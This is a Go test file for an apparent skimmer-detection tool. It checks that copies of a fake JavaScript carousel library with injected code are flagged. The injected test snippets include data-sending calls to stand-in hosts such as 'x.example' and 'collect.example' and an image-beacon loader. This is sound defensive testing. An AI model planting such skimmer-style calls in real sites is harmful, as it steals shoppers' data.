package files

import (
	"crypto/sha256"
	"fmt"
	"maps"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/text/encoding/japanese"

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/known"
	"github.com/tillwatch/tillwatch/script"
)

// library is a version of a library of our own.
func library(version string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "/*! carousel v%s */\n(function (root) {\n", version)
	for i := range 40 {
		fmt.Fprintf(&b, "  root.turn%d = function (a) { return a.slides * %d + a.width; };\n", i, i)
	}
	if version != "1.0" {
		b.WriteString("  root.dots = true;\n")
	}
	return b.String() + "})(window.carousel = {});\n"
}

// libraryData lists two versions of it as published.
func libraryData(t *testing.T) *known.Data {
	t.Helper()
	var libraries, trimmed []string
	statements := map[string]string{}
	for _, version := range []string{"1.0", "1.1"} {
		text := library(version)
		code := known.Trim([]byte(text))
		sum := sha256.Sum256([]byte(text))
		libraries = append(libraries, fmt.Sprintf("carousel\t%s\tdist/carousel.min.js\t%x\t%x\t%d\n", version, sum, sum, len(text)))
		trimmed = append(trimmed, fmt.Sprintf("%x\t%x\t%d\n", sum, sha256.Sum256(code), len(code)))
		for _, s := range script.Statements([]byte(text)) {
			hash := fmt.Sprintf("%016x", s.Hash)
			if statements[hash] == "" {
				statements[hash] = version
			} else {
				statements[hash] = "1.0..1.1"
			}
		}
	}
	var lines strings.Builder
	for _, hash := range slices.Sorted(maps.Keys(statements)) {
		fmt.Fprintf(&lines, "%s\tcarousel\t%s\n", hash, statements[hash])
	}
	file, err := known.Encode(known.Sources{
		Libraries:  strings.NewReader("#tillwatch-libraries\t1\n#date\t2026-01-02\n" + strings.Join(libraries, "")),
		Trimmed:    strings.NewReader("#tillwatch-trimmed\t1\n" + strings.Join(trimmed, "")),
		Statements: strings.NewReader("#tillwatch-statements\t1\n#date\t2026-01-02\n" + lines.String()),
		Releases:   strings.NewReader("#tillwatch-release-files\t1\n#date\t2026-01-03\n"),
	})
	if err != nil {
		t.Fatal(err)
	}
	data, err := known.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestLibraries(t *testing.T) {
	t.Parallel()
	data := libraryData(t)
	half := strings.Index(library("1.0"), "  root.turn20 ")
	within := func(text string) string { return library("1.0")[:half] + text + library("1.0")[half:] }
	own := "fetch('/api/cart', { body: '" + strings.Repeat("wares ", 5_000) + "' });\n"
	for name, c := range map[string]struct {
		file, text string
		want       tillwatch.Severity // of files/changed; 0: no such sign
		certainty  tillwatch.Certainty
		line       int
		does       string
	}{
		"as published":             {"a.js", library("1.1"), 0, 0, 0, ""},
		"with other line ends":     {"a.js", strings.ReplaceAll(library("1.1"), "\n", "\r\n"), 0, 0, 0, ""},
		"a skimmer at the end":     {"carousel.js", library("1.0") + thief, tillwatch.High, tillwatch.Certain, 44, doesSome},
		"a skimmer within":         {"carousel.js", within(thief), tillwatch.High, tillwatch.Certain, 23, doesSome},
		"something that loads":     {"x.js", within("  new Image().src = root.where;\n"), tillwatch.High, tillwatch.Certain, 23, doesSome},
		"nothing of consequence":   {"x.js", library("1.0") + "window.ready = 1;\n", tillwatch.Low, tillwatch.Certain, 44, doesNothing},
		"what cannot be parsed":    {"x.js", library("1.0") + "@@ §§ ((\n", tillwatch.High, tillwatch.Certain, 44, doesUnknown},
		"a bundle":                 {"shop.js", library("1.0") + own, tillwatch.Low, tillwatch.Certain, 44, looksBundled},
		"as much under its name":   {"carousel.min.js", library("1.0") + own, tillwatch.High, tillwatch.Certain, 44, doesSome},
		"two places, nothing":      {"x.js", strings.NewReplacer("* 3 ", "* 77 ", "* 30 ", "* 333 ").Replace(library("1.0")), tillwatch.Low, tillwatch.Likely, 6, doesNothing},
		"two places, one sends":    {"x.js", strings.NewReplacer("return a.slides * 3 ", "return fetch('https://x.example/' + a.slides), a.slides * 3 ", "* 30 ", "* 333 ").Replace(library("1.0")), tillwatch.High, tillwatch.Likely, 6, doesSome},
		"a version nobody lists":   {"x.js", strings.NewReplacer("v1.0", "v1.2", "* 3 ", "* 33 ", "* 30 ", "* 333 ").Replace(library("1.0")), 0, 0, 0, ""},
		"a build of its own":       {"x.js", strings.NewReplacer("* 3 ", "* fetch('/a') ", "* 6 ", "* 606 ", "* 9 ", "* 909 ", "* 12 ", "* 122 ", "* 15 ", "* 155 ", "* 18 ", "* 188 ").Replace(library("1.0")), tillwatch.Low, tillwatch.Likely, 6, looksBuilt},
		"something else entirely":  {"x.js", own, 0, 0, 0, ""},
		"Japanese before the code": {"carousel.js", "/* 購入画面 */" + library("1.0") + thief, tillwatch.High, tillwatch.Certain, 44, doesSome},
	} {
		got := observe(t, Config{Data: data}, folder(t, map[string]string{c.file: c.text}))
		i := slices.IndexFunc(got.signs, func(s tillwatch.Sign) bool { return s.Rule == ruleChanged })
		if i < 0 {
			if c.want != 0 {
				t.Errorf("%s: no sign: %q", name, got.all)
			}
			continue
		}
		s := got.signs[i]
		if s.Severity != c.want || s.Certainty != c.certainty || s.Evidence[0].Line != c.line || !strings.Contains(s.Summary, c.does) ||
			!strings.Contains(s.Summary, "carousel 1.0") {
			t.Errorf("%s: %s, %s, line %d: %s", name, s.Severity, s.Certainty, s.Evidence[0].Line, s.Summary)
		}
	}
}

func TestALibraryInAnotherEncoding(t *testing.T) {
	t.Parallel()
	text, err := japanese.ShiftJIS.NewEncoder().String("/*! carousel v1.0 購入画面で使います */\n" + library("1.0")[strings.Index(library("1.0"), "\n")+1:] + thief)
	if err != nil {
		t.Fatal(err)
	}
	got := observe(t, Config{Data: libraryData(t)}, folder(t, map[string]string{"carousel.js": text}))
	i := slices.IndexFunc(got.signs, func(s tillwatch.Sign) bool { return s.Rule == ruleChanged })
	if i < 0 || got.signs[i].Severity != tillwatch.High || got.signs[i].Evidence[0].Line < 40 || len(got.signs) != 2 {
		t.Errorf("got %q: %+v", got.all, got.signs)
	}
}

func TestWhatWasAddedIsShownWhereItIs(t *testing.T) {
	t.Parallel()
	dir := folder(t, map[string]string{"carousel.js": strings.TrimRight(library("1.0"), "\n") + ";" + thief})
	got := observe(t, Config{Data: libraryData(t)}, filepath.Join(dir, "carousel.js"))
	i := slices.IndexFunc(got.signs, func(s tillwatch.Sign) bool { return s.Rule == ruleChanged })
	if i < 0 {
		t.Fatalf("no sign: %q", got.all)
	}
	e := got.signs[i].Evidence
	if len(e) < 3 || e[0].Line != 43 || e[0].Column != 26 || e[1].Line != 46 || e[2].Destination != "//collect.example" || e[2].Line != 45 {
		t.Errorf("evidence %+v", e)
	}
	if !slices.ContainsFunc(got.signs, func(s tillwatch.Sign) bool { return s.Rule == ruleSkimmer && s.Severity == tillwatch.High }) {
		t.Errorf("the skimmer itself is not told: %q", got.all)
	}
}

func TestPublishedFilesAreNotJudgedAgain(t *testing.T) {
	t.Parallel()
	o := judge{data: libraryData(t)}.file(kindScript, "x.js", []byte(library("1.1")))
	if len(o.Capabilities)+len(o.Signs) > 0 || o.Partial != "" {
		t.Errorf("got %+v", o)
	}
}
